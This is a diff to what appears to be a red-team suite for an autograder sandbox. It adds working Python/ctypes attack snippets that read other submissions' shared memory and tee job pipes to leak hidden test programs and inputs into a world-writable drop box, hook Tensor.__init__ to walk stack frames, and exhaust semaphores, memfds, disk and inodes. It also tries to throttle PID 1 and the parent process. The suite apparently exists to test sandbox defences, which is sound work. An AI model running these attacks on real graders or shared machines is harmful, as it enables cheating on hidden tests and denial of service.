@@ -9,7 +9,9 @@ file outside the job folder), ``@OUT@`` (the output folder), ``@RESULT@`` (the r
 is about to write), ``@FAKE_SITE@`` (a folder with a forbidden "autograd" that is really the
 reference solution), ``@PORT@`` and ``@UDP@`` (TCP and UDP ports the test listens on, on
 127.0.0.1), ``@UNIX@`` (a pathname Unix socket the test listens on, in a folder anyone may reach),
-``@ABSTRACT@`` (an abstract Unix socket's name), ``@ID@`` (the attack's id).
+``@ABSTRACT@`` (an abstract Unix socket's name), ``@IPCKEY@`` (a System V IPC key of this test
+session's: a fixed key, as an attacker would pick, that no other program uses), ``@ID@`` (the
+attack's id).
 
 Attacks that only misbehave in one scenario look for the program's frame among their callers (the
 program calls them directly, or through ``attempt`` and its lambdas): a timeout costs 5 s, so they fire once, in the public ``d2l_detach_dz_dx``.
@@ -847,6 +849,202 @@ CONTAINERS = [
         """),
 ]
 
-ATTACKS = FORGING + LYING + CONTROL + RESOURCES + SNOOPING + ON_THE_GRADER + CONTAINERS
+# System V IPC through ctypes (the standard library has none): a handle with the calls declared.
+_SYSV = textwrap.indent("""\
+import ctypes, os
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.shmat.restype = ctypes.c_void_p
+_libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
+_libc.shmdt.argtypes = (ctypes.c_void_p,)
+_IPC_CREAT, _IPC_NOWAIT, _SHM_RDONLY, _SHM_STAT_ANY = 0o1000, 0o4000, 0o10000, 15
+
+
+def _attach(ident, flags=0):
+    address = _libc.shmat(ident, None, flags)
+    return None if address in (None, ctypes.c_void_p(-1).value) else address
+
+
+def _segments():
+    # Every segment this process can see, by index (SHM_STAT_ANY), and what it starts with.
+    found, buffer = [], ctypes.create_string_buffer(512)
+    for index in range(64):
+        ident = _libc.shmctl(index, _SHM_STAT_ANY, buffer)
+        address = _attach(ident, _SHM_RDONLY) if ident >= 0 else None
+        if address:
+            found.append(ctypes.string_at(address, 64).split(b"\\0")[0])
+            _libc.shmdt(address)
+    return found
+""", " " * 8)  # indented like the attack snippets it prefixes, so they dedent together
+
+KERNEL_OBJECTS = [
+    Attack("shared_memory_left", "kernel objects", "import", _SYSV + """
+        # What an earlier submission left in segments this one can see (same uid, same slot), then
+        # three 200 MiB segments of its own, filled and detached: memory no process holds.
+        print("FOUND-SEGMENTS", _segments())
+        made = 0
+        for key, mode in ((0, 0o600), (0, 0o600), (@IPCKEY@ + 1, 0o666)):
+            ident = _libc.shmget(key, 200 << 20, _IPC_CREAT | mode)
+            address = _attach(ident) if ident >= 0 else None
+            if address is None:
+                print("refused shmget", ctypes.get_errno())
+                break
+            ctypes.memset(address, 1, 200 << 20)
+            ctypes.memmove(address, b"SEGMENT-OF-@ID@-%d\\0" % os.getpid(), 40)
+            _libc.shmdt(address)
+            made += 1
+        print("MADE-SEGMENTS", made)
+        """),
+    Attack("message_queue_drop_box", "kernel objects", "import", _SYSV + """
+        # A mode-0666 queue at a fixed key (System V, and POSIX): each program this submission
+        # runs, hidden ones included, goes in with its inputs; each import prints what earlier runs
+        # left there, into feedback a student sees (a later `grader check` of the same file).
+        import sys
+
+        class _Message(ctypes.Structure):
+            _fields_ = [("kind", ctypes.c_long), ("text", ctypes.c_char * 4096)]
+        queue = _libc.msgget(@IPCKEY@, _IPC_CREAT | 0o666)
+        posix = _libc.mq_open(b"/redteam-@IPCKEY@", os.O_RDWR | os.O_CREAT | os.O_NONBLOCK, 0o666, None)
+        print("refused msgget" if queue < 0 else "QUEUE", "refused mq_open" if posix < 0 else "POSIX-QUEUE")
+        left, message = [], _Message()
+        while queue >= 0 and (size := _libc.msgrcv(queue, ctypes.byref(message), 4096, 0, _IPC_NOWAIT)) >= 0:
+            left.append(message.text[:size])
+        buffer = ctypes.create_string_buffer(1 << 16)
+        while posix >= 0 and (size := _libc.mq_receive(posix, buffer, 1 << 16, None)) >= 0:
+            left.append(buffer.raw[:size])
+        print("DROPBOX", left)
+        _init = Tensor.__init__
+
+        def _dropping_init(self, *args, **kwargs):
+            _init(self, *args, **kwargs)
+            frame = sys._getframe(1)
+            while frame is not None:   # up to the sandbox's own record of the run: its program and inputs
+                item = frame.f_locals.get("item")
+                if isinstance(item, dict) and "source" in item:
+                    if not item.get("dropped"):
+                        item["dropped"] = True
+                        text = (str(item.get("function")) + " " + item["source"] + repr(item.get("inputs")))
+                        text = text[:4000].encode()
+                        if queue >= 0:
+                            _libc.msgsnd(queue, ctypes.byref(_Message(1, text)), len(text), _IPC_NOWAIT)
+                        if posix >= 0:
+                            _libc.mq_send(posix, text, len(text), 0)
+                    break
+                frame = frame.f_back
+        Tensor.__init__ = _dropping_init
+        """),
+    Attack("semaphore_flood", "kernel objects", "import", _SYSV + """
+        # 300 semaphore sets and 300 message queues a run, against the machine's limits.
+        sets = sum(_libc.semget(0, 250, _IPC_CREAT | 0o600) >= 0 for _ in range(300))
+        queues = sum(_libc.msgget(0, _IPC_CREAT | 0o600) >= 0 for _ in range(300))
+        print("FLOOD", sets, "semaphore sets", queues, "queues", "errno", ctypes.get_errno())
+        """),
+    Attack("job_pipe_reader_thread", "kernel objects", "import", _SYSV + """
+        # A thread of the zygote copies (tee: without taking it) whatever waits in the pipes it can
+        # read, the job pipe's run commands among them, hidden ones too, into a mode-0666 segment
+        # at a fixed key; each import prints what an earlier run kept there.
+        import fcntl, stat, threading, time
+        ident = _libc.shmget(@IPCKEY@ + 2, 1 << 20, _IPC_CREAT | 0o666)
+        kept_at = _attach(ident) if ident >= 0 else None
+        # (the last of it: the hidden programs run after the public ones)
+        print("KEPT-BEFORE", ctypes.string_at(kept_at, 1 << 20).split(b"\\0")[0][-30000:] if kept_at else None,
+              "refused shmget" if ident < 0 else "")
+
+        def _reader(fd):
+            try:
+                return stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == 0
+            except OSError:
+                return False
+        readers = [fd for fd in range(3, 64) if _reader(fd)]
+
+        def _keep():
+            kept, last = bytearray(), b""
+            seen_r, seen_w = os.pipe()
+            os.set_blocking(seen_r, False)
+            while True:
+                for fd in readers:
+                    if _libc.tee(fd, seen_w, 65536, 2) > 0:   # SPLICE_F_NONBLOCK
+                        peeked = os.read(seen_r, 65536)
+                        if peeked != last:
+                            kept += peeked.replace(b"\\0", b" ")
+                            last = peeked
+                            if kept_at:
+                                ctypes.memmove(kept_at, bytes(kept[-(1 << 20) + 1:]) + b"\\0", min(len(kept) + 1, 1 << 20))
+                time.sleep(0.002)
+        threading.Thread(target=_keep, daemon=True).start()
+        """),
+    Attack("memfd_beyond_the_limit", "kernel objects", "import", """
+        # Pages of a memfd that no process maps count in no RLIMIT_AS, and RLIMIT_FSIZE is per
+        # file: 105 memfds of 16 MiB each hold 1,680 MiB against a limit of 1,024.
+        import ctypes, os, signal
+        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+        held, kept = 0, []
+        try:
+            while held < 1680:
+                fd = os.memfd_create("hold")
+                kept.append(fd)
+                os.posix_fallocate(fd, 0, 16 << 20)
+                held += 16
+        except OSError as error:
+            print("memfd stopped", type(error).__name__, error.errno)
+        secret = ctypes.CDLL(None, use_errno=True).syscall(447, 0)
+        print("MEMFD-HELD-MB", held, "memfd_secret", secret, ctypes.get_errno())
+        """),
+    Attack("limits_of_other_processes", "kernel objects", "detach", ONCE + """
+        # Process 1 of the container is its trusted reaper (an ordinary user's has the sandbox's
+        # uid), the parent the zygote: change their limits and scheduling, and every process of the user.
+        import ctypes, os, resource
+        libc, outcomes = ctypes.CDLL(None, use_errno=True), []
+
+        def attempt(name, action):
+            try:
+                action()
+                outcomes.append("CHANGED " + name)
+            except OSError as error:
+                outcomes.append(f"refused {name} {error.errno}")
+        for pid in (1, os.getppid()):
+            attempt(f"prlimit {pid}", lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)))
+            attempt(f"prlimit-nofile {pid}", lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)))
+            attempt(f"setpriority {pid}", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
+            attempt(f"affinity {pid}", lambda: os.sched_setaffinity(pid, {0}))
+            attempt(f"scheduler {pid}", lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)))
+            if libc.syscall(251, 1, pid, 3 << 13) == 0:   # ioprio_set(IOPRIO_WHO_PROCESS, pid, idle)
+                outcomes.append(f"CHANGED ioprio {pid}")
+            else:
+                outcomes.append(f"refused ioprio {pid} {ctypes.get_errno()}")
+        attempt("setpriority of the user", lambda: os.setpriority(os.PRIO_USER, 0, 19))
+        attempt("setpriority of the group", lambda: os.setpriority(os.PRIO_PGRP, 0, 19))
+        print("OTHERS", outcomes)
+        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
+        """),
+    Attack("disk_and_inode_filling", "kernel objects", "detach", ONCE + """
+        # Files of the largest size allowed, and empty folders, for the scenario's whole time limit.
+        import os, signal, time
+        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+        chunk, written, made, errors, said = b"\\0" * (1 << 20), 0, 0, {}, 0.0
+        while True:
+            try:
+                fd = os.open(f"fill-{made}.bin", os.O_WRONLY | os.O_CREAT, 0o600)
+                made += 1
+                try:
+                    for _ in range(16):
+                        written += os.write(fd, chunk)
+                finally:
+                    os.close(fd)
+            except OSError as error:
+                errors[error.errno] = errors.get(error.errno, 0) + 1
+            for _ in range(64):
+                try:
+                    os.mkdir(f"inode-{made}")
+                    made += 1
+                except OSError as error:
+                    errors[error.errno] = errors.get(error.errno, 0) + 1
+                    break
+            if time.monotonic() - said > 0.25:
+                print("FILLED", written >> 20, "MiB", made, "files", "errors", errors, flush=True)
+                said = time.monotonic()
+        """, timeout=True),
+]
+
+ATTACKS = FORGING + LYING + CONTROL + RESOURCES + SNOOPING + ON_THE_GRADER + CONTAINERS + KERNEL_OBJECTS
 BY_ID = {attack.id: attack for attack in ATTACKS}
 assert len(BY_ID) == len(ATTACKS)
